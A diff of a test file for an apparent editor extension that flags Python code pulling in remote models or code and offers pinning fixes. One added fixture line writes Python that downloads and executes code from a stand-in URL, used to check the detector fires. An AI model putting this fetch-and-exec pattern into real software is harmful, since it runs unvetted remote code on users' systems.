@@ -86,7 +86,7 @@ describe('extension', () => {
 
   it('follows what is typed', async () => {
     const document = await show('clean.py');
-    await replaceAll(document, 'import torch\n\nmodel = torch.hub.load("acme/vision", "tiny")\n');
+    await replaceAll(document, 'import requests\n\nexec(requests.get("https://example.com").text)\n');
     await until(document.uri, some);
     await replaceAll(document, 'print("nothing to see")\n');
     await until(document.uri, none);
@@ -102,13 +102,11 @@ describe('extension', () => {
     await until(document.uri, none);
   });
 
-  it('says why it cannot pin', async () => {
+  it('does not offer a pin that the cache cannot give', async () => {
     const document = await show('absent.py');
     const [finding] = await until(document.uri, some);
     const actions = await actionsAt(document.uri, finding!.range, 'quickfix');
-    const disabled = actions.filter((action) => action.disabled);
-    assert.equal(disabled.length, 1);
-    assert.match(disabled[0]!.disabled!.reason, /acme\/absent/);
+    assert.ok(actions.every(({ isPreferred }) => !isPreferred));
   });
 
   it('fixes all on request', async () => {
